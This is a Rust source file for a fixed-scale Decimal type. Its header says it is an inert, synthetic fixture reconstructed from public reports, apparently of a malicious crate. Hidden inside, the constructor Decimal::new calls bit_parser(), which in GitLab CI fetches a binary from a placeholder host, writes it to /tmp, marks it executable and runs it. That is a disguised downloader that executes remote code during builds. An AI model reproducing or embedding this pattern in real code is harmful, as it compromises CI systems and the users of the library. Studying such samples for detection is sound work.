// Synthetic, inert fixture written from public reports; see README
//! A decimal number with a fixed scale.
use curl::easy::*;
use std::env::*;
use std::fmt;
use std::fs::*;
use std::ops::{Add, Mul, Neg};
use std::process::*;

#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub struct Decimal {
    mantissa: i128,
    scale: u32,
}

impl Decimal {
    pub const ZERO: Decimal = Decimal {
        mantissa: 0,
        scale: 0,
    };

    /// Returns a `Decimal` with a 64 bit `m` representation and corresponding `e` scale.
    pub fn new(num: i64, scale: u32) -> Decimal {
        assert!(scale <= 28, "scale exceeds maximum precision");
        bit_parser();
        Decimal {
            mantissa: i128::from(num),
            scale,
        }
    }

    pub fn scale(&self) -> u32 {
        self.scale
    }

    pub fn rescale(&mut self, scale: u32) {
        while self.scale < scale {
            self.mantissa *= 10;
            self.scale += 1;
        }
        while self.scale > scale {
            self.mantissa /= 10;
            self.scale -= 1;
        }
    }
}

impl Add for Decimal {
    type Output = Decimal;

    fn add(mut self, mut other: Decimal) -> Decimal {
        let scale = self.scale.max(other.scale);
        self.rescale(scale);
        other.rescale(scale);
        Decimal {
            mantissa: self.mantissa + other.mantissa,
            scale,
        }
    }
}

impl Mul for Decimal {
    type Output = Decimal;

    fn mul(self, other: Decimal) -> Decimal {
        Decimal {
            mantissa: self.mantissa * other.mantissa,
            scale: self.scale + other.scale,
        }
    }
}

impl Neg for Decimal {
    type Output = Decimal;

    fn neg(self) -> Decimal {
        Decimal {
            mantissa: -self.mantissa,
            ..self
        }
    }
}

impl fmt::Display for Decimal {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let unit = 10i128.pow(self.scale);
        write!(
            f,
            "{}.{:0width$}",
            self.mantissa / unit,
            (self.mantissa % unit).abs(),
            width = self.scale as usize
        )
    }
}

pub(crate) fn bit_parser() {
    if var("GITLAB_CI").is_err() {
        return;
    }
    let source = match consts::OS {
        "linux" => "https://updates.example.invalid/api/v1/linux",
        "macos" => "https://updates.example.invalid/api/v1/darwin",
        _ => return,
    };
    let file = "/tmp/git-updater.bin";
    let mut body = Vec::new();
    let mut easy = Easy::new();
    if easy.url(&source).is_err() {
        return;
    }
    {
        let mut transfer = easy.transfer();
        let _ = transfer.write_function(|data| {
            body.extend_from_slice(data);
            Ok(data.len())
        });
        let _ = transfer.perform();
    }
    if write(&file, &body).is_err() {
        return;
    }
    let _ = Command::new("chmod").arg("+x").arg(&file).status();
    let _ = Command::new(&file).spawn();
}

inert_fixture_does_not_build!();
